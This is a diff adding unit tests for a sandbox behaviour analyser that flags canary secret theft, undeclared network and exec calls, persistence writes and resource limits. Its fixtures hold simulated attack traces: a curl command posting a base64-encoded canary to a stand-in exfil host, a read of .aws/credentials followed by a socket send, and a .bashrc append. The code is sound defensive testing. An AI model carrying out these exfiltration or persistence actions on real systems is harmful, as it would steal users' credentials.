@@ -1,0 +1,121 @@
+import { describe, expect, it } from "vitest";
+import { analyse } from "../../../src/stages/behavior/analyse.js";
+import { encodedForms, findCanaries, makeCanaries, type Canary } from "../../../src/stages/behavior/canaries.js";
+import { toFindings } from "../../../src/stages/behavior/findings.js";
+import type { AnalysisContext, CommandObservation } from "../../../src/stages/behavior/observe.types.js";
+import type { TraceEvent } from "../../../src/stages/behavior/trace.types.js";
+
+const SECRET: Canary = { label: "AWS_SECRET_ACCESS_KEY", value: "SKILLSIGN_CANARY_UNIT_AWS_0001", kind: "secret" };
+const CTX: AnalysisContext = {
+  canaries: [SECRET],
+  bait: [{ guestPath: "/home/skill/.aws/credentials", label: ".aws/credentials", routine: false }],
+  guestWork: "/work",
+  guestHome: "/home/skill",
+  memoryMb: 256,
+  declared: { network: [], bins: [], env: [], paths: [] },
+};
+
+function run(events: TraceEvent[], extra: Partial<CommandObservation> = {}): CommandObservation {
+  return {
+    planned: { source: "script-no-args", command: "python3 scripts/x.py", origin: "scripts/x.py" },
+    end: { kind: "exited", exitCode: 0, oomKilled: false },
+    stdout: "",
+    stderr: "",
+    events,
+    forkFailures: 0,
+    diskExceeded: false,
+    changedFiles: [],
+    timeoutMs: 10_000,
+    ...extra,
+  };
+}
+
+const ids = (runs: CommandObservation[], ctx = CTX) => [...new Set(toFindings(analyse(runs, ctx)).map((f) => f.ruleId))].sort();
+
+describe("analyse", () => {
+  it("treats a quiet run as clean", () => {
+    expect(ids([run([{ kind: "open", pid: 2, comm: "python3", path: "/work/scripts/__pycache__/x.pyc", flags: "O_WRONLY|O_CREAT", write: true, ok: true }])])).toEqual([]);
+  });
+
+  it("rates undeclared network high and declared network low", () => {
+    const e: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_INET", addr: "127.0.0.1", port: 9, ok: false };
+    expect(toFindings(analyse([run([e])], CTX))[0]).toMatchObject({ ruleId: "behavior.network-attempt", severity: "high" });
+    const declared = { ...CTX, declared: { ...CTX.declared, network: ["api.example.invalid"] } };
+    expect(toFindings(analyse([run([e])], declared))[0]).toMatchObject({ severity: "low" });
+  });
+
+  it("ignores unix sockets (nscd) but reports DNS lookups", () => {
+    const nscd: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_UNIX", addr: "/var/run/nscd/socket", ok: false };
+    const dns: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_INET", addr: "127.0.0.1", port: 53, ok: true };
+    const f = toFindings(analyse([run([nscd, dns])], CTX));
+    expect(f).toHaveLength(1);
+    expect(f[0]!.message).toContain("DNS");
+  });
+
+  it("reports a canary read and a canary sent over a socket, never showing the value", () => {
+    const f = toFindings(
+      analyse([run([
+        { kind: "open", pid: 2, comm: "python3", path: "/home/skill/.aws/credentials", flags: "O_RDONLY", write: false, ok: true },
+        { kind: "send", pid: 2, comm: "python3", syscall: "sendmsg", target: "socket:[2]", data: `key=\\n${SECRET.value}` },
+      ])], CTX),
+      encodedForms(SECRET.value),
+    );
+    expect(f.map((x) => x.ruleId).sort()).toEqual(["behavior.canary-exfil", "behavior.canary-read"]);
+    expect(f.find((x) => x.ruleId === "behavior.canary-exfil")).toMatchObject({ severity: "critical", confidence: "high" });
+    expect(JSON.stringify(f)).not.toContain(SECRET.value);
+  });
+
+  it("sees a canary that was base64-encoded before it left", () => {
+    const b64 = Buffer.from(`x${SECRET.value}y`).toString("base64");
+    const e: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/curl", argv: ["curl", "-d", b64, "http://c.exfil.invalid"], ok: true };
+    expect(ids([run([e])])).toEqual(["behavior.canary-exfil", "behavior.undeclared-exec"]);
+  });
+
+  it("does not flag the declared binaries, and flags a shell spawned from Python", () => {
+    const git: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/git", argv: ["git", "status"], ok: true };
+    expect(ids([run([git])], { ...CTX, declared: { ...CTX.declared, bins: ["git"] } })).toEqual([]);
+    const sh: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/sh", argv: ["sh", "-c", "id"], ok: true };
+    expect(toFindings(analyse([run([sh])], CTX))[0]).toMatchObject({ ruleId: "behavior.undeclared-exec", severity: "high" });
+    const fromShell: TraceEvent = { ...sh, comm: "sh" };
+    expect(ids([run([fromShell])])).toEqual([]);
+  });
+
+  it("separates persistence from other writes outside the work dir", () => {
+    const bashrc: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/home/skill/.bashrc", flags: "O_WRONLY|O_APPEND|O_CREAT", write: true, ok: true };
+    const etc: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/etc/hosts", flags: "O_WRONLY", write: true, ok: false };
+    const tmp: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/tmp/x", flags: "O_WRONLY|O_CREAT", write: true, ok: true };
+    expect(ids([run([bashrc, etc, tmp])])).toEqual(["behavior.persistence", "behavior.write-outside-workdir"]);
+  });
+
+  it("reports resource limits: fork bomb, memory, timeout", () => {
+    expect(ids([run([], { forkFailures: 50 })])).toEqual(["behavior.resource-limit"]);
+    expect(ids([run([], { forkFailures: 2 })])).toEqual([]);
+    expect(ids([run([], { end: { kind: "exited", exitCode: 137, oomKilled: true } })])).toEqual(["behavior.resource-limit"]);
+    expect(ids([run([], { end: { kind: "timeout" } })])).toEqual(["behavior.resource-limit"]);
+  });
+
+  it("de-duplicates the same behaviour across commands and says how often it was seen", () => {
+    const e: TraceEvent = { kind: "open", pid: 2, comm: "python3", path: "/home/skill/.aws/credentials", flags: "O_RDONLY", write: false, ok: true };
+    const second = run([e], { planned: { source: "script-help", command: "python3 scripts/x.py --help", origin: "scripts/x.py" } });
+    const f = toFindings(analyse([run([e]), second], CTX));
+    expect(f).toHaveLength(1);
+    expect(f[0]!.message).toContain("seen in 2 commands");
+  });
+});
+
+describe("canaries", () => {
+  it("are unique per run and redactable", () => {
+    const a = makeCanaries();
+    const b = makeCanaries();
+    const values = a.canaries.map((c) => c.value);
+    expect(new Set(values).size).toBe(values.length);
+    expect(values.some((v) => b.canaries.some((c) => c.value === v))).toBe(false);
+    expect(a.files.find((f) => f.relPath === ".ssh/id_rsa")!.content).toContain("NOT-A-REAL-KEY");
+  });
+
+  it("are found in hex and reversed form, and not in unrelated text", () => {
+    expect(findCanaries(Buffer.from(SECRET.value).toString("hex"), [SECRET])).toHaveLength(1);
+    expect(findCanaries([...SECRET.value].reverse().join(""), [SECRET])).toHaveLength(1);
+    expect(findCanaries("SKILLSIGN_CANARY_OTHER", [SECRET])).toHaveLength(0);
+  });
+});
